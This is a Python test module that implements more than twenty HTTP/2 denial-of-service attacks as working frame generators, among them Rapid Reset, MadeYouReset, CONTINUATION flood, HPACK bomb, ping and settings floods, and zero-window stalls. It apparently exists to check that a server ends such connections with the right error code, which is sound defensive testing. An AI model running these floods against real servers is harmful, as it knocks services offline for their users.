"""HTTP/2 abuse, one attack each: what a hostile client sends, as fast as it is taken.

    python -m tests.security.http2.attacks PORT NAME SECONDS

runs one in a process of its own, over one connection after the other, and prints as JSON
what came of it. Which connections end, and how, is the tests' matter.
"""

import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Final

from tests.security.http2 import frames as f
from tests.security.http2.frames import Fields, Peer

BATCH = 500  # frames, or pairs of them, in one write
# Gives a server that has ended the connection the time to be asked for the next.
_PAUSE = 0.005

Chunks = Iterator[bytes]


def fields(path: bytes = b"/", method: bytes = b"GET") -> list[tuple[bytes, bytes]]:
    return [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"service.test")]


def request(stream: int, path: bytes = b"/empty", end: bool = True, more: Fields = ()) -> bytes:
    return f.headers(stream, [*fields(path, b"GET" if end else b"POST"), *more], end)


def rapid_reset() -> Chunks:
    """CVE-2023-44487: each request is cancelled in the same breath."""
    stream = 1
    while True:
        yield b"".join(request(s) + f.reset(s) for s in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def made_you_reset() -> Chunks:
    """CVE-2025-8671: an increment of 0, so that it is the server who resets."""
    stream = 1
    while True:
        yield b"".join(request(s, end=False) + f.window_update(s, 0) for s in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def malformed_requests() -> Chunks:
    """Requests that have to be reset for what is in them."""
    stream = 1
    while True:
        bad = [(b"connection", b"close")]
        yield b"".join(request(s, more=bad) for s in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def continuation_flood() -> Chunks:
    """CVE-2024-27316: a header block without end."""
    yield f.headers(1, fields(), flags=0)
    part = f.frame(f.CONTINUATION, 0, 1, f.block([(b"x-a", b"b")]))
    while True:
        yield part * BATCH


def empty_continuations() -> Chunks:
    """The same of frames without a byte."""
    yield f.headers(1, fields(), flags=0)
    while True:
        yield f.frame(f.CONTINUATION, 0, 1) * BATCH


def hpack_bomb() -> Chunks:
    """One field of 4,000 bytes in the dynamic table, and 16,000 references to it in each head."""
    indexed = b"\x40" + f.literal(b"x-bomb", b"v" * 3900)[1:]
    yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, f.block(fields(b"/empty")) + indexed)
    stream = 3
    while True:
        yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, stream, f.block(fields(b"/empty")) + b"\xbe" * 16_000)
        stream += 2


def dear_heads() -> Chunks:
    """Heads of 250 kB in 80 bytes each, behind as many frames as are looked at of any connection and DATA that
    is cheap to parse: so that a read of them is taken for one of those."""
    indexed = b"\x40" + f.literal(b"x-bomb", b"v" * 3500)[1:]
    yield f.frame(f.HEADERS, f.END_HEADERS, 1, f.block(fields(b"/empty", b"POST")) + indexed)
    yield f.frame(f.UNKNOWN) * 300
    yield f.data(1, bytes(16_000)) * 4
    stream = 3
    while True:
        yield b"".join(
            f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, each, f.block(fields(b"/empty")) + b"\xbe" * 70)
            for each in range(stream, stream + 200, 2)
        )
        stream += 200


def long_header_lists() -> Chunks:
    """Heads of 100 kB, over what is allowed and below what ends a connection."""
    stream = 1
    many = f.block([*fields(b"/empty"), *((b"x-%d" % index, b"v" * 1000) for index in range(100))])
    while True:
        rest = many[16_000:]
        parts = [rest[at : at + 16_000] for at in range(0, len(rest), 16_000)]
        yield f.frame(f.HEADERS, f.END_STREAM, stream, many[:16_000]) + b"".join(
            f.frame(f.CONTINUATION, f.END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts
        )
        stream += 2


def field_without_end() -> Chunks:
    """One field of 256 kB."""
    stream = 1
    block = f.block([*fields(b"/empty"), (b"x-a", b"v" * 262_144)])
    while True:
        yield f.frame(f.HEADERS, f.END_STREAM, stream, block[:16_000]) + b"".join(
            f.frame(f.CONTINUATION, 0, stream, block[at : at + 16_000]) for at in range(16_000, len(block), 16_000)
        )
        stream += 2


def over_and_over(frames: bytes, before: bytes = b"") -> Callable[[], Chunks]:
    def chunks() -> Chunks:
        yield before
        while True:
            yield frames * BATCH

    return chunks


def one_byte_windows() -> Chunks:
    """A large answer, asked for byte by byte."""
    yield b"".join(request(s, b"/bytes/1000000") for s in range(1, 101, 2))
    while True:
        yield b"".join(f.window_update(s, 1) for s in range(1, 101, 2)) * 10


def zero_windows() -> Chunks:
    """As many large answers as there may be, and none is read."""
    yield b"".join(request(s, b"/bytes/1000000") for s in range(1, 2000, 2))
    while True:
        yield f.ping()


def too_many_streams() -> Chunks:
    """Requests that last, far more than allowed."""
    stream = 1
    while True:
        yield b"".join(request(s, b"/hang") for s in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


OPEN = request(1, b"/hang", end=False)
CLOSED = OPEN + f.reset(1)


@dataclass(frozen=True)
class Attack:
    """`settings` of the client, and what it sends. `slow` in seconds between two writes.
    `end` is the code that its connections have to end with; "open" = they are not ended."""

    chunks: Callable[[], Chunks]
    settings: tuple[tuple[int, int], ...] = ()
    slow: float = 0.0
    end: str = "ENHANCE_YOUR_CALM"


ATTACKS: Final[dict[str, Attack]] = {
    "rapid_reset": Attack(rapid_reset),
    "made_you_reset": Attack(made_you_reset),
    "malformed_requests": Attack(malformed_requests),
    "continuation_flood": Attack(continuation_flood),
    "empty_continuations": Attack(empty_continuations),
    "hpack_bomb": Attack(hpack_bomb),
    "dear_heads": Attack(dear_heads),
    "long_header_lists": Attack(long_header_lists),
    # A length beyond what we take is an error of decoding (RFC 7541 5.1), and that is COMPRESSION_ERROR
    # (RFC 9113 4.3). It is told at the length, with not a byte of the value taken: see bombs.py.
    "field_without_end": Attack(field_without_end, end="COMPRESSION_ERROR"),
    "ping_flood": Attack(over_and_over(f.ping())),
    "ping_answers": Attack(over_and_over(f.ping(ack=True))),
    "settings_flood": Attack(over_and_over(f.settings())),
    "settings_changes": Attack(over_and_over(f.settings((1, 0)) + f.settings((1, 4096)))),
    "priority_flood": Attack(over_and_over(f.priority(1, 3), OPEN)),
    "unknown_frames": Attack(over_and_over(f.frame(f.UNKNOWN, 0, 0, b"?"))),
    "empty_data": Attack(over_and_over(f.data(1), OPEN)),
    "padding": Attack(over_and_over(f.frame(f.DATA, f.PADDED, 1, b"\x01\0"), OPEN)),
    "data_on_a_closed_stream": Attack(over_and_over(f.data(1), CLOSED)),
    "window_updates": Attack(over_and_over(f.window_update(1, 1) + f.window_update(0, 1), OPEN)),
    "one_byte_windows": Attack(one_byte_windows, settings=((4, 1),)),
    # Nothing of it costs more than it holds, and that for so long as timeouts.write allows.
    "zero_windows": Attack(zero_windows, settings=((4, 0),), slow=0.05, end="open"),
    "too_many_streams": Attack(too_many_streams),
}


@dataclass
class Outcome:
    """What came of an attack: connections made, bytes sent, and GOAWAY codes (or "closed")."""

    connections: int = 0
    sent: int = 0
    ends: Counter[str] = field(default_factory=Counter)

    def as_json(self) -> str:
        return json.dumps({"connections": self.connections, "sent": self.sent, "ends": dict(self.ends)})


async def attack(port: int, name: str, seconds: float, connections: int = 1_000_000) -> Outcome:
    """Attack for so long, or until so many connections have ended."""
    outcome = Outcome()
    until = time.monotonic() + seconds
    while time.monotonic() < until and outcome.connections < connections:
        outcome.connections += 1
        try:
            peer = await f.connect(port, *ATTACKS[name].settings)
        except OSError:
            outcome.ends["refused"] += 1
            await asyncio.sleep(_PAUSE)
            continue
        await _one_connection(peer, ATTACKS[name], until, outcome)
        peer.close()
        await asyncio.sleep(_PAUSE)
    return outcome


async def _one_connection(peer: Peer, kind: Attack, until: float, outcome: Outcome) -> None:
    peer.forgets = True
    reading = asyncio.create_task(peer.until_closed())
    chunks = kind.chunks()
    try:
        while time.monotonic() < until and not reading.done() and not peer.closed:
            chunk = next(chunks)
            with suppress(TimeoutError):
                # A server that takes no more has stopped us, which is as good as an end.
                await asyncio.wait_for(peer.send(chunk), max(0.01, until - time.monotonic()))
            outcome.sent += len(chunk)
            await asyncio.sleep(kind.slow)
        if peer.closed or reading.done():
            with suppress(TimeoutError):
                await asyncio.wait_for(asyncio.shield(reading), 1.0)
            said = peer.of(f.GOAWAY)
            outcome.ends[f.CODES[said[-1].code] if said else "closed"] += 1
        else:
            outcome.ends["open"] += 1
    finally:
        reading.cancel()
        with suppress(asyncio.CancelledError):
            await reading


if __name__ == "__main__":
    print(asyncio.run(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))).as_json(), flush=True)
